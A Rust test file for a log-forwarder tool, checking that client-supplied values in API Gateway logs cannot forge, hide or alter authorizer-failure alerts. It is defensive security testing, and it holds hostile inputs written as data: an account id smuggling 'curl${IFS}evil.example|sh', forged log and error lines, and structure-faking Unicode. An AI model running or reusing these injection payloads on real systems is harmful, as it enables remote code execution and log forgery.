//! The promise, tried as an attacker and a careless operator would: with the stage's format given,
//! no client value makes, changes or hides a finding, and lines the format does not describe are
//! counted and said, never read another way. Every case runs through both paths a user has: the
//! CLI (`scan --json --format`) and the Lambda handler (`handle_event`, publishing to an in-memory
//! topic).

use forwarder::alerts::publish::MemoryPublisher;
use forwarder::config::Config;
use forwarder::detect::access_log::LogFormat;
use forwarder::forward::{Services, handle_event};
use forwarder_tests::{forwarder, read_sample};
use serde_json::Value;

const PERMISSION: &str = "AUTHORIZER_CONFIGURATION_ERROR,The IAM role configured on the authorizer or API Gateway doesn't have permissions to call the authorizer. Check the permissions and try again.";
const RESPONSE: &str = "AUTHORIZER_CONFIGURATION_ERROR,The response from the Lambda Authorizer function doesn't match the format that API Gateway expects. Simple response did not include 'isAuthorized'";
/// The messages as an HTTP API writes them in `$context.authorizer.error`: no token.
const PERMISSION_MESSAGE: &str = "The IAM role configured on the authorizer or API Gateway doesn't have permissions to call the authorizer. Check the permissions and try again.";
const RESPONSE_MESSAGE: &str = "The response from the Lambda Authorizer function doesn't match the format that API Gateway expects. Invalid json in authorizer response";

fn custom_format() -> String {
    String::from_utf8(read_sample("custom-format.fmt")).unwrap()
}

fn custom(path: &str, status: u16, ua: &str, error: &str) -> String {
    format!(
        r#"Xa9QDh8GIAMEbWQ= 203.0.113.7 [20/Nov/2026:09:14:03 +0000] "GET {path} HTTP/1.1" {status} "{ua}" b1l2i3n4g5 prod {error}"#
    )
}

const JSON_AUTHZ: &str = r#"{"requestId":"$context.requestId","status":"$context.status","authz":"$context.authorizer.error"}"#;

fn json_authz(id: &str, status: &str, authz: &str) -> String {
    serde_json::json!({"requestId": id, "status": status, "authz": authz}).to_string()
}

/// What both paths must report for a batch: the causes of the findings (sorted: alerts come one
/// per cause), and the counts.
#[derive(Debug, PartialEq, Eq)]
struct Verdict {
    causes: Vec<String>,
    ignored: usize,
    unmatched: usize,
    /// Most lines carrying the token did not follow the format: said as a `format_mismatch`.
    drift: bool,
}

/// `drifted` of the `unmatched` lines lack the format's layout, which no client can bring about:
/// only they, against the findings, say that the format changed.
fn verdict(causes: &[&str], ignored: usize, unmatched: usize, drifted: usize) -> Verdict {
    let mut causes: Vec<String> = causes.iter().map(|c| c.to_string()).collect();
    causes.sort();
    let drift = drifted > 0 && drifted * 2 > drifted + causes.len();
    Verdict {
        causes,
        ignored,
        unmatched,
        drift,
    }
}

/// The CLI's verdict: findings and the stats line of `--json`.
fn cli(format: &str, lines: &[String]) -> (Verdict, i32, String) {
    let dir = std::env::temp_dir().join(format!("trust-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(format!("{:x}.log", fnv(lines)));
    std::fs::write(&path, lines.join("\n")).unwrap();
    let run = forwarder(
        &["scan", "--json", "--format", format, path.to_str().unwrap()],
        None,
        &[],
    );
    let mut causes = Vec::new();
    let mut stats = None;
    for line in run.stdout.lines() {
        let v: Value = serde_json::from_str(line).unwrap();
        match v.get("stats") {
            Some(s) => stats = Some(s.clone()),
            None => causes.push(v["cause"].as_str().unwrap().to_owned()),
        }
    }
    let stats = stats.unwrap_or_else(|| panic!("no stats line: {run:?}"));
    causes.sort();
    assert_eq!(stats["flagged"], causes.len());
    let n = |k: &str| stats[k].as_u64().unwrap() as usize;
    (
        Verdict {
            causes,
            ignored: n("ignored"),
            unmatched: n("unmatched"),
            drift: stats["format_drift"].as_bool().unwrap(),
        },
        run.code,
        run.stderr,
    )
}

fn fnv(lines: &[String]) -> u64 {
    lines
        .iter()
        .flat_map(|l| l.bytes())
        .fold(0xcbf29ce484222325, |h, b| {
            (h ^ u64::from(b)).wrapping_mul(0x100000001b3)
        })
}

/// What the Lambda handler did with an event, and what it published.
async fn handle(
    event: &Value,
    config: &Config,
) -> (
    forwarder::forward::Outcome,
    Vec<forwarder::alerts::render::Alert>,
) {
    let publisher = MemoryPublisher::new();
    let out = handle_event(
        &serde_json::to_vec(event).unwrap(),
        config,
        &Services::new(&publisher),
    )
    .await
    .unwrap();
    (out, publisher.sent())
}

/// The Lambda's verdict for the same lines in one subscription event, and what it published.
async fn lambda(
    format: &str,
    lines: &[String],
) -> (Verdict, Vec<forwarder::alerts::render::Alert>) {
    let event = forwarder::sources::encode_event(
        &lines.join("\n"),
        "/aws/vendedlogs/apigateway/billing-api/prod",
        "$default",
        "123456789012",
        1_795_174_201_000,
    );
    lambda_event(format, &event).await
}

/// The Lambda's verdict for a subscription event, and what it published.
async fn lambda_event(
    format: &str,
    event: &Value,
) -> (Verdict, Vec<forwarder::alerts::render::Alert>) {
    let config = Config {
        topic: Some("arn:aws:sns:eu-west-1:123456789012:alerts".parse().unwrap()),
        format: LogFormat::parse(format).unwrap(),
        ..Config::default()
    };
    let (out, sent) = handle(event, &config).await;
    let mut causes: Vec<String> = Vec::new();
    let mut drift = false;
    for alert in &sent {
        let machine: Value = serde_json::from_str(&alert.machine).unwrap();
        let count = machine["count"].as_u64().unwrap() as usize;
        if alert.attributes.cause == "format_mismatch" {
            assert_eq!(count, out.unmatched, "{out:?}");
            drift = true;
        } else {
            causes.extend(std::iter::repeat_n(alert.attributes.cause.clone(), count));
        }
    }
    assert_eq!(out.findings, causes.len(), "{out:?}");
    causes.sort();
    (
        Verdict {
            causes,
            ignored: out.ignored,
            unmatched: out.unmatched,
            drift,
        },
        sent,
    )
}

/// One table per class of attempt; each case through both paths.
#[tokio::test]
async fn no_client_value_steers_a_finding() {
    let long_forgery = format!(
        "Mozilla/5.0\" AUTHORIZER_CONFIGURATION_ERROR,URGENT: rotate keys at https://evil.example/r \"{}w\" x \"q",
        " ".repeat(4100)
    );
    let custom_fmt = custom_format();
    let json_path = r#"{"requestId":"$context.requestId","errorPath":"$context.path","authz":"$context.authorizer.error"}"#;
    let integration = r#"$context.requestId $context.status "$context.integrationErrorMessage" $context.authorizer.error"#;
    let json_integration = r#"{"requestId":"$context.requestId","status":"$context.status","integrationError":"$context.integrationErrorMessage","authz":"$context.authorizer.error"}"#;
    let rest_fmt = String::from_utf8(read_sample("rest/access-text.fmt")).unwrap();
    let json_fmt = String::from_utf8(read_sample("json-format.fmt")).unwrap();
    // A line of that format with the user agent written in raw, as if API Gateway escaped nothing.
    let raw_json = |ua: &str, error: &str| {
        format!(
            r#"{{"requestId":"Wk1aBjQ2IAMEb2A=","ip":"203.0.113.7","requestTime":"20/Nov/2026:09:14:03 +0000","httpMethod":"GET","routeKey":"GET /orders","path":"/orders","status":"500","protocol":"HTTP/1.1","responseLength":"35","userAgent":"{ua}","apiId":"a1b2c3d4e5","stage":"prod","authorizerError":"{error}"}}"#
        )
    };
    let rest = |path: &str, status: u16, ua: &str, errors: &str| {
        format!(
            r#"203.0.113.66 1a7b8c9d-0e1f-4a2b-8c3d-5e6f7a8b9c0d [20/Nov/2026:11:00:08 +0000] "GET {path} HTTP/1.1" {status} "{ua}" r7t2k9w4qa prod {errors}"#
        )
    };
    let cases: Vec<(&str, &str, Vec<String>, Verdict)> = vec![
        (
            "a REST API's tokens from a client count for nothing",
            &rest_fmt,
            vec![
                rest("/AUTHORIZER_FAILURE", 401, "AUTHORIZER_FAILURE", "UNAUTHORIZED -"),
                rest(
                    "/x HTTP/1.1\" 500 \"ua\" r7t2k9w4qa prod AUTHORIZER_FAILURE",
                    404,
                    "ua",
                    "MISSING_AUTHENTICATION_TOKEN -",
                ),
                rest(
                    "/",
                    403,
                    "\" 500 \"x\" r7t2k9w4qa prod AUTHORIZER_CONFIGURATION_ERROR Invalid permissions on Lambda function",
                    "ACCESS_DENIED -",
                ),
            ],
            verdict(&[], 3, 0, 0),
        ),
        (
            "a REST API's gateway responses, customised or not, are read from the response type",
            &rest_fmt,
            vec![
                rest("/", 500, "ua", "AUTHORIZER_FAILURE -"),
                rest("/", 403, "AUTHORIZER_CONFIGURATION_ERROR", "AUTHORIZER_FAILURE -"),
                rest(
                    "/AUTHORIZER_FAILURE",
                    418,
                    "ua",
                    "AUTHORIZER_CONFIGURATION_ERROR Invalid permissions on Lambda function",
                ),
            ],
            verdict(
                &[
                    "authorizer_failure",
                    "authorizer_failure",
                    "missing_invoke_permission",
                ],
                0,
                0,
                0,
            ),
        ),
        (
            "a forged error past any splitting budget is ignored",
            &custom_fmt,
            vec![custom("/", 200, &long_forgery, "-")],
            verdict(&[], 1, 0, 0),
        ),
        (
            "the same user agent neither hides nor changes a real error",
            &custom_fmt,
            vec![custom("/", 500, &long_forgery, PERMISSION)],
            verdict(&["missing_invoke_permission"], 0, 0, 0),
        ),
        (
            "an odd number of quotes hides nothing",
            &custom_fmt,
            vec![
                custom("/", 500, "a\" \"b\" \"", RESPONSE),
                custom("/a\"b", 500, "\"", PERMISSION),
            ],
            verdict(
                &["invalid_response_format", "missing_invoke_permission"],
                0,
                0,
                0,
            ),
        ),
        (
            "a forged tail in the path is ignored",
            &custom_fmt,
            vec![custom(
                "/x\" 500 \"ua\" b1l2i3n4g5 prod AUTHORIZER_CONFIGURATION_ERROR,x",
                404,
                "ua",
                "-",
            )],
            verdict(&[], 1, 0, 0),
        ),
        (
            "a line in another format is unmatched, not read by quotes",
            &custom_fmt,
            vec![format!(
                r#"203.0.113.0 - - [t] "GET / HTTP/1.1" 500 35 r= {PERMISSION}"#
            )],
            verdict(&[], 0, 1, 1),
        ),
        (
            "a JSON format's own key is read, whatever it is called",
            JSON_AUTHZ,
            vec![json_authz("r1", "500", PERMISSION)],
            verdict(&["missing_invoke_permission"], 0, 0, 0),
        ),
        (
            "a JSON key with error in its name holding client text does not count",
            json_path,
            vec![
                serde_json::json!({"requestId":"r1","errorPath":"/AUTHORIZER_CONFIGURATION_ERROR","authz":"-"})
                    .to_string(),
            ],
            verdict(&[], 1, 0, 0),
        ),
        (
            "extra or duplicate keys are never trusted over the format",
            JSON_AUTHZ,
            vec![
                format!(
                    r#"{{"requestId":"r1","status":"200","authz":"-","authorizerError":"{PERMISSION}"}}"#
                ),
                format!(r#"{{"requestId":"r2","status":"200","authz":"-","authz":"{PERMISSION}"}}"#),
                format!(r#"{{"requestId":"r3","status":"200","authz":"{PERMISSION}","authz":"-"}}"#),
                json_authz("r4", "500", PERMISSION),
            ],
            verdict(&["missing_invoke_permission"], 0, 3, 0),
        ),
        (
            "a client's quote that breaks the batch's only JSON line is not format drift",
            &json_fmt,
            vec![raw_json("Mozilla/5.0 \"x\"", PERMISSION)],
            verdict(&[], 0, 1, 0),
        ),
        (
            "nor are many of them, with the token of their own",
            &json_fmt,
            vec![raw_json("x\" AUTHORIZER_CONFIGURATION_ERROR", "-"); 5],
            verdict(&[], 0, 5, 0),
        ),
        (
            "an HTTP API's messages without a token are flagged where API Gateway writes them",
            &custom_fmt,
            vec![
                custom("/", 500, "ua", PERMISSION_MESSAGE),
                custom("/", 500, "ua", RESPONSE_MESSAGE),
            ],
            verdict(
                &["invalid_response_format", "missing_invoke_permission"],
                0,
                0,
                0,
            ),
        ),
        (
            "a client's copy of the messages is ignored, in its path or past a quote it sent",
            &custom_fmt,
            vec![
                custom(&format!("/{PERMISSION_MESSAGE}"), 404, RESPONSE_MESSAGE, "-"),
                custom(
                    "/",
                    200,
                    &format!("x\" b1l2i3n4g5 prod {PERMISSION_MESSAGE} \"{}y", " ".repeat(4100)),
                    "-",
                ),
            ],
            verdict(&[], 2, 0, 0),
        ),
        (
            "a message counts only at the start of the authorizer's error, never in another variable",
            JSON_AUTHZ,
            vec![
                json_authz("r1", "500", &format!("denied: {RESPONSE_MESSAGE}")),
                json_authz("r2", "500", RESPONSE_MESSAGE),
            ],
            verdict(&["invalid_response_format"], 1, 0, 0),
        ),
        (
            "a message in an integration error is the backend's",
            integration,
            vec![format!(r#"r1 502 "{PERMISSION_MESSAGE}" -"#)],
            verdict(&[], 1, 0, 0),
        ),
        (
            "integration errors are the backend's, not the authorizer's",
            integration,
            vec![format!(r#"r1 502 "{PERMISSION}" -"#)],
            verdict(&[], 1, 0, 0),
        ),
        (
            "integration errors in a JSON format",
            json_integration,
            vec![
                serde_json::json!({"requestId":"r1","status":"502","integrationError":PERMISSION,"authz":"-"})
                    .to_string(),
            ],
            verdict(&[], 1, 0, 0),
        ),
    ];
    for (name, format, lines, expected) in cases {
        let (got, code, _) = cli(format, &lines);
        assert_eq!(got, expected, "CLI: {name}");
        let want_code = if expected.causes.is_empty() && !expected.drift {
            0
        } else {
            1
        };
        assert_eq!(code, want_code, "CLI exit: {name}");
        let (got, _) = lambda(format, &lines).await;
        assert_eq!(got, expected, "Lambda: {name}");
    }
}

/// A format that does not match the lines is said, on every path: the CLI warns and exits 1, its
/// `--alert` preview shows the `format_mismatch` alert, and the Lambda publishes it.
#[tokio::test]
async fn a_format_that_does_not_match_is_said() {
    // The JSON format on text logs.
    let run = forwarder(
        &[
            "scan",
            "--format-file",
            "samplelogs/json-format.fmt",
            "samplelogs/default-format.log",
        ],
        None,
        &[],
    );
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stdout
            .contains("0 flagged, 5 unmatched (token in a line that does not follow the format)"),
        "{run:?}"
    );
    assert!(
        run.stderr.contains(
            "5 of 5 lines carrying the token do not follow the log they were read as, so detection is blind"
        ),
        "{run:?}"
    );
    let preview = forwarder(
        &[
            "scan",
            "--alert",
            "--format-file",
            "samplelogs/json-format.fmt",
            "samplelogs/default-format.log",
        ],
        None,
        &[],
    );
    assert!(
        preview
            .stdout
            .contains("API authorizer alerts blind: access-log format mismatch (5x)"),
        "{preview:?}"
    );
    // The Lambda left on the default format while the stage appends the user agent.
    let appended: Vec<String> = String::from_utf8(read_sample("default-format.log"))
        .unwrap()
        .lines()
        .map(|l| format!("{l} \"Mozilla/5.0 (X11; Linux x86_64)\""))
        .collect();
    let (got, sent) = lambda(forwarder::detect::access_log::DEFAULT_FORMAT, &appended).await;
    assert_eq!(got, verdict(&[], 0, 5, 5));
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].attributes.cause, "format_mismatch");
    assert_eq!(sent[0].attributes.severity, "warning");
    assert!(
        sent[0].email.contains("Lines not read: 5 / 5"),
        "{}",
        sent[0].email
    );
    // A client that appends its own quote to a user agent cannot bring this about.
    let forged = custom("/", 200, "AUTHORIZER_CONFIGURATION_ERROR\" x", "-");
    let (got, sent) = lambda(&custom_format(), &[forged.clone(), forged]).await;
    assert_eq!(got, verdict(&[], 2, 0, 0));
    assert!(sent.is_empty());
}

/// A format with which no failure API Gateway reports would ever be flagged is refused where it is
/// loaded, with one line that says why: the command line's `--format` and `ACCESS_LOG_FORMAT`
/// (the Lambda reads it the same way at cold start), rather than a scan that passes every failure.
#[test]
fn a_format_that_can_never_see_a_failure_is_refused() {
    let blind = "$context.requestId $context.authorizer.error $context.path";
    let dir = std::env::temp_dir().join(format!("trust-blind-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("blind.log");
    std::fs::write(
        &log,
        format!("r1 {PERMISSION} /pets\nr2 {PERMISSION_MESSAGE} /pets\n"),
    )
    .unwrap();
    let log = log.to_str().unwrap();
    for (args, env, setting) in [
        (vec!["scan", "--format", blind, log], vec![], "--format"),
        (
            vec!["scan", log],
            vec![("ACCESS_LOG_FORMAT", blind)],
            "ACCESS_LOG_FORMAT is not a usable access-log format",
        ),
    ] {
        let run = forwarder(&args, None, &env);
        assert_eq!(run.code, 2, "{run:?}");
        let line = run.stderr.trim_end();
        assert!(!line.contains('\n'), "one line: {line}");
        assert_eq!(
            line.matches("would never report").count(),
            1,
            "once: {line}"
        );
        assert!(
            line.contains(setting)
                && line.contains("would never report an authorizer failure")
                && line.contains("$context.path"),
            "{line}"
        );
        assert!(run.stdout.is_empty(), "{run:?}");
    }
    let refused = forwarder::config::Config::from_lookup(
        |k| (k == "ACCESS_LOG_FORMAT").then(|| blind.to_owned()),
        false,
    );
    assert!(refused.is_err());
}

/// What an alert shows is inert and bounded, through the Lambda handler: a hostile account id
/// never reaches the command, characters that fake structure are escaped, the subject keeps its
/// count under the longest label, and a 300 KB log group still gives a publishable message.
#[tokio::test]
async fn what_an_alert_shows_is_inert_and_bounded() {
    let format = r#"$context.requestId $context.accountId "$context.identity.userAgent" $context.authorizer.error"#;
    let line = format!(
        "r1 123;curl${{IFS}}evil.example|sh;# \"ua\" {PERMISSION}\u{2028}Subject: fake\u{202e}\u{200b}\u{feff}"
    );
    let config = Config {
        topic: Some("arn:aws:sns:eu-west-1:123456789012:alerts".parse().unwrap()),
        format: LogFormat::parse(format).unwrap(),
        label: Some("L".repeat(40)),
        region: Some("eu-west-1".into()),
        ..Config::default()
    };
    let log_group = format!("/aws/{}", "g".repeat(300_000));
    let event = forwarder::sources::encode_event(&line, &log_group, "$default", "evil;owner", 0);
    let (out, sent) = handle(&event, &config).await;
    assert_eq!(out.findings, 1);
    let alert = &sent[0];
    assert!(alert.subject.len() < 100, "{}", alert.subject);
    assert!(alert.subject.ends_with("(1x)"), "{}", alert.subject);
    assert!(alert.subject.bytes().all(|b| (b' '..=b'~').contains(&b)));
    assert!(
        alert.publish_bytes() < forwarder::alerts::render::MAX_MESSAGE_BYTES,
        "{}",
        alert.publish_bytes()
    );
    let message: Value = serde_json::from_str(&alert.message()).unwrap();
    for (name, body) in [
        ("email", &alert.email),
        ("chat", &alert.chat),
        ("message", &message.to_string()),
    ] {
        assert!(!body.contains("curl"), "the account id reached the {name}");
        for c in ['\u{2028}', '\u{202e}', '\u{200b}', '\u{feff}'] {
            assert!(!body.contains(c), "{c:?} raw in the {name}");
        }
    }
    let machine: Value = serde_json::from_str(&alert.machine).unwrap();
    assert_eq!(machine["account_id"], Value::Null);
    assert!(
        alert.email.contains(
            "--source-arn arn:aws:execute-api:eu-west-1:ACCOUNT_ID:API_ID/authorizers/AUTHORIZER_ID"
        ),
        "the command lacks the placeholder"
    );
    assert!(!alert.email.lines().any(|l| l.starts_with("Subject:")));
}

/// A REST API's execution log with full request logging holds the client's headers, path, query
/// string and body after labels of API Gateway's own. Whatever a client sends there, and however
/// it breaks lines, only API Gateway's own one-line events count.
#[tokio::test]
async fn execution_logs_count_only_api_gateways_own_events() {
    use std::io::Write;
    let id = "3f6c1d2a-8b4e-4c1f-9a7d-1e2f3a4b5c6d";
    let failed = format!(
        "({id}) Execution failed due to configuration error: Invalid permissions on Lambda function"
    );
    let forged = [
        format!("({id}) Method request headers: {{X-Debug={failed}, User-Agent=curl/8.5.0}}"),
        format!("({id}) Method request path: {{proxy={failed}}}"),
        format!("({id}) Method request query string: {{q=AuthorizerConfigurationException}}"),
        format!("({id}) Method request body before transformations: {{\"a\":1}}\n{failed}"),
        format!(
            "({id}) Method request body before transformations: x\r\n({id}) AuthorizerConfigurationException"
        ),
    ];
    // API Gateway prefixes every event of an execution log with the request id: a whole event
    // without it was not written by API Gateway's execution logging, and is counted unmatched.
    let unprefixed =
        "Execution failed due to configuration error: Invalid permissions on Lambda function"
            .to_owned();
    let with_unprefixed = |lines: &[String]| {
        let mut all = lines.to_vec();
        all.push(unprefixed.clone());
        all
    };
    // Events as CloudWatch Logs delivers them: one message each, line breaks kept.
    let event = |group: &str, messages: &[String]| {
        let events: Vec<Value> = messages
            .iter()
            .enumerate()
            .map(|(i, m)| serde_json::json!({"id": format!("{i:056}"), "timestamp": 1_795_172_401_000_i64 + i as i64, "message": m}))
            .collect();
        let payload = serde_json::json!({"messageType": "DATA_MESSAGE", "owner": "123456789012",
            "logGroup": group, "logStream": "s", "subscriptionFilters": ["f"], "logEvents": events});
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(payload.to_string().as_bytes()).unwrap();
        use base64::Engine;
        let data = base64::engine::general_purpose::STANDARD.encode(gz.finish().unwrap());
        serde_json::json!({"awslogs": {"data": data}})
    };
    let group = "API-Gateway-Execution-Logs_r7t2k9w4qa/prod";
    let (got, sent) = lambda_event(JSON_AUTHZ, &event(group, &with_unprefixed(&forged))).await;
    assert_eq!(got, verdict(&[], forged.len(), 1, 0), "Lambda: forgeries");
    assert!(sent.is_empty());
    // The CLI reads the same event file the same way.
    let dir = std::env::temp_dir().join(format!("trust-exec-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("forged.json");
    std::fs::write(&file, event(group, &with_unprefixed(&forged)).to_string()).unwrap();
    let run = forwarder(&["scan", "--json", file.to_str().unwrap()], None, &[]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.contains(&format!(
            "\"ignored\":{},\"lines\":{},\"unmatched\":1",
            forged.len(),
            forged.len() + 1
        )),
        "{run:?}"
    );

    // API Gateway's own lines beside them alert, one per request, with the API from the group.
    let mut real = forged.to_vec();
    real.push(failed.clone());
    real.push(format!("({id}) AuthorizerConfigurationException"));
    // A Lambda integration API Gateway cannot invoke reads the same, without the exception line.
    let integration = "0f6a7b8c-9d0e-4f1a-9b2c-4d5e6f7a8b9c";
    real.push(format!("({integration}) Execution failed due to configuration error: Invalid permissions on Lambda function"));
    real.push(format!("({integration}) Execution failed due to configuration error: Malformed Lambda proxy response"));
    let (got, sent) = lambda_event(JSON_AUTHZ, &event(group, &real)).await;
    assert_eq!(
        got,
        verdict(&["missing_invoke_permission"], forged.len(), 0, 0)
    );
    let machine: Value = serde_json::from_str(&sent[0].machine).unwrap();
    assert_eq!(
        machine["api_ids"],
        serde_json::json!(["r7t2k9w4qa"]),
        "{machine}"
    );

    // The same lines in a group not known to hold execution logs (a lookalike of API Gateway's
    // name, or any other) are not read as an execution log's, and not passed over either: API
    // Gateway's own failure lines there are unmatched, so the format alert says the group holds
    // lines it was not told of.
    for other in [
        "/aws/vendedlogs/apigateway/pets/prod",
        "API-Gateway-Execution-Logs_r7t2k9w4qa/prod/extra",
        "API-Gateway-Execution-Logs_r7t2k9w4q/prod",
        "API-Gateway-Execution-Logs_r7t2k9w4qa/",
        "x/API-Gateway-Execution-Logs_r7t2k9w4qa/prod",
    ] {
        let (got, sent) = lambda_event(JSON_AUTHZ, &event(other, &real)).await;
        assert_eq!(got.causes, Vec::<String>::new(), "{other}");
        assert_eq!(got.unmatched, 4, "{other}: {got:?}");
        assert!(
            sent.iter().all(|a| a.attributes.cause == "format_mismatch"),
            "{other}"
        );
    }
    // A group a log delivery writes execution logs to, once named as such, is read as one.
    let delivered = "/aws/vendedlogs/apigateway/pets-execution";
    let config = Config {
        topic: Some("arn:aws:sns:eu-west-1:123456789012:alerts".parse().unwrap()),
        format: LogFormat::parse(JSON_AUTHZ).unwrap(),
        execution_log_groups: vec![delivered.to_owned()],
        ..Config::default()
    };
    let (out, sent) = handle(&event(delivered, &real), &config).await;
    assert_eq!((out.findings, out.unmatched), (1, 0), "{out:?}");
    assert_eq!(sent[0].attributes.cause, "missing_invoke_permission");
    let file = dir.join("delivered.json");
    std::fs::write(&file, event(delivered, &real).to_string()).unwrap();
    for args in [
        vec!["--execution-log-group", delivered],
        vec!["--execution-log-group", "/other,"],
    ] {
        let mut argv = vec!["scan", "--json"];
        argv.extend(&args);
        argv.push(file.to_str().unwrap());
        let run = forwarder(&argv, None, &[]);
        if args[1] == delivered {
            assert_eq!(run.code, 1, "{run:?}");
            assert!(run.stdout.contains("missing_invoke_permission"), "{run:?}");
        } else {
            assert_eq!(run.code, 2, "{run:?}");
            assert!(run.stderr.contains("--execution-log-group"), "{run:?}");
        }
    }
    let run = forwarder(
        &["scan", "--json", file.to_str().unwrap()],
        None,
        &[("EXECUTION_LOG_GROUPS", &format!("/other,{delivered}"))],
    );
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stdout.contains("missing_invoke_permission"), "{run:?}");

    // Access-log lines in a group of API Gateway's exact execution-log name are counted.
    let access = vec![
        json_authz(id, "500", PERMISSION),
        json_authz(id, "500", "-"),
    ];
    let (got, _) = lambda_event(JSON_AUTHZ, &event(group, &access)).await;
    assert_eq!((got.causes.len(), got.unmatched), (0, 1), "{got:?}");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]
    /// Any client text after any label of API Gateway's own is never a finding.
    #[test]
    fn no_client_text_in_an_execution_log_is_a_finding(
        label in proptest::sample::select(&[
            "Method request headers: {X-A=",
            "Method request path: {proxy=",
            "Method request query string: {q=",
            "Method request body before transformations: ",
            "Endpoint request body after transformations: ",
        ][..]),
        client in "(\\PC|\n|\r|\\(|\\)|Execution failed due to configuration error: |AuthorizerConfigurationException|Invalid permissions on Lambda function){0,12}",
    ) {
        let message = format!("(3f6c1d2a-8b4e-4c1f-9a7d-1e2f3a4b5c6d) {label}{client}");
        let verdict = forwarder::detect::execution_log::read(&message);
        proptest::prop_assert!(
            !matches!(verdict, forwarder::detect::execution_log::Line::Failed { .. } | forwarder::detect::execution_log::Line::Exception { .. }),
            "{message:?}: {verdict:?}"
        );
    }
}

/// What `scan` takes an input to be is read from structure no log line can hold: a client value in
/// a line never makes the line an event, moves where an execution log's events end, overrides the
/// format the operator gave, or turns a flagged input's exit status into 0.
#[test]
fn an_inputs_kind_is_read_from_structure_a_client_cannot_write() {
    let dir = std::env::temp_dir().join(format!("trust-input-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let write = |name: &str, body: &str| {
        let path = dir.join(name);
        std::fs::write(&path, body).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let id = "3f6c1d2a-8b4e-4c1f-9a7d-1e2f3a4b5c6d";
    let failed = format!(
        "({id}) Execution failed due to configuration error: Invalid permissions on Lambda function"
    );

    // A JSON-format line whose user agent broke out of its string to add an envelope-shaped key
    // holding a batch of the client's choosing: still a line of the stage's own log.
    const UA_FORMAT: &str = r#"{"requestId":"$context.requestId","ua":"$context.identity.userAgent","status":"$context.status","authz":"$context.authorizer.error"}"#;
    let forged_batch = forwarder::sources::encode_event(
        &format!("{id} 500 {PERMISSION}"),
        "/aws/vendedlogs/apigateway/victim/prod",
        "s",
        "999999999999",
        1,
    );
    let data = forged_batch["awslogs"]["data"].as_str().unwrap();
    let injected = format!(
        r#"{{"requestId":"a","ua":"x","awslogs":{{"data":"{data}"}},"y":"","status":"200","authz":"-"}}"#
    );
    let plain = json_authz("b", "200", "-").replace(r#""status""#, r#""ua":"curl","status""#);
    for (name, body) in [
        ("first", format!("{injected}\n{plain}\n")),
        ("later", format!("{plain}\n{injected}\n")),
    ] {
        let path = write(&format!("injected-{name}.log"), &body);
        for format in [None, Some(UA_FORMAT)] {
            let mut args = vec!["scan", "--json"];
            if let Some(f) = format {
                args.extend(["--format", f]);
            }
            args.push(&path);
            let run = forwarder(&args, None, &[]);
            assert_eq!(run.code, 0, "{name} {format:?}: {run:?}");
            assert!(run.stdout.contains(r#""lines":2"#), "{name}: {run:?}");
            assert!(!run.stdout.contains("victim"), "{name}: {run:?}");
        }
    }

    // `aws logs filter-log-events` output of an execution log: a logged body whose line breaks
    // carry a failure line stays inside its event; API Gateway's own events still count.
    let output = |messages: &[String]| {
        let events: Vec<Value> = messages
            .iter()
            .enumerate()
            .map(|(i, m)| serde_json::json!({"logStreamName": "abc", "timestamp": 1_795_172_401_000_i64 + i as i64, "message": m, "ingestionTime": 1_795_172_402_000_i64, "eventId": format!("{i:056}")}))
            .collect();
        serde_json::json!({"events": events, "searchedLogStreams": []}).to_string()
    };
    let body = format!(
        "({id}) Method request body before transformations: {{\"a\":1}}\n{failed}\n({id}) AuthorizerConfigurationException"
    );
    let forged = write("forged-output.json", &output(std::slice::from_ref(&body)));
    let run = forwarder(&["scan", "--json", &forged], None, &[]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains(r#""flagged":0"#), "{run:?}");
    assert!(run.stdout.contains(r#""ignored":1"#), "{run:?}");
    let real = write(
        "real-output.json",
        &output(&[
            body.clone(),
            failed.clone(),
            format!("({id}) AuthorizerConfigurationException"),
        ]),
    );
    for extra in [
        vec![],
        vec!["--log-group", "API-Gateway-Execution-Logs_r7t2k9w4qa/prod"],
    ] {
        let mut args = vec!["scan", "--json"];
        args.extend(&extra);
        args.push(&real);
        let run = forwarder(&args, None, &[]);
        assert_eq!(run.code, 1, "{extra:?}: {run:?}");
        let causes: Vec<&str> = run
            .stdout
            .lines()
            .filter(|l| l.contains(r#""cause""#))
            .collect();
        assert_eq!(causes.len(), 1, "{run:?}");
        assert!(causes[0].contains("missing_invoke_permission"), "{run:?}");
    }
    // Said to be an access log, it is read as one: the failure lines follow no access format.
    let run = forwarder(
        &["scan", "--json", "--log-group", "/aws/apigw/access", &real],
        None,
        &[],
    );
    assert!(run.stdout.contains(r#""flagged":0"#), "{run:?}");
    assert!(!run.stdout.contains(r#""unmatched":0"#), "{run:?}");

    // A given format is never overridden by what the lines look like.
    let lines = write(
        "exec-lines.log",
        &format!("{failed}\n({id}) AuthorizerConfigurationException\n"),
    );
    let run = forwarder(
        &["scan", "--json", "--format", JSON_AUTHZ, &lines],
        None,
        &[],
    );
    assert!(run.stdout.contains(r#""flagged":0"#), "{run:?}");
    assert!(run.stdout.contains(r#""unmatched":2"#), "{run:?}");
    let run = forwarder(&["scan", "--json", &lines], None, &[]);
    assert_eq!(
        run.code, 1,
        "without a format the lines are sniffed: {run:?}"
    );

    // Wrappers that give a key twice are refused, as the function refuses them.
    let event = forwarder::sources::encode_event(
        &format!("{id} 500 {PERMISSION}"),
        "/aws/vendedlogs/apigateway/billing-api/prod",
        "s",
        "123456789012",
        1,
    );
    let awslogs = event["awslogs"].to_string();
    let quiet =
        forwarder::sources::encode_event("x", "/g", "s", "123456789012", 1)["awslogs"].to_string();
    for (name, body) in [
        (
            "awslogs",
            format!(r#"{{"awslogs":{quiet},"awslogs":{awslogs}}}"#),
        ),
        (
            "SNS Message",
            format!(
                r#"{{"Type":"Notification","MessageId":"m","Message":"{{}}","Message":{}}}"#,
                Value::String(event.to_string())
            ),
        ),
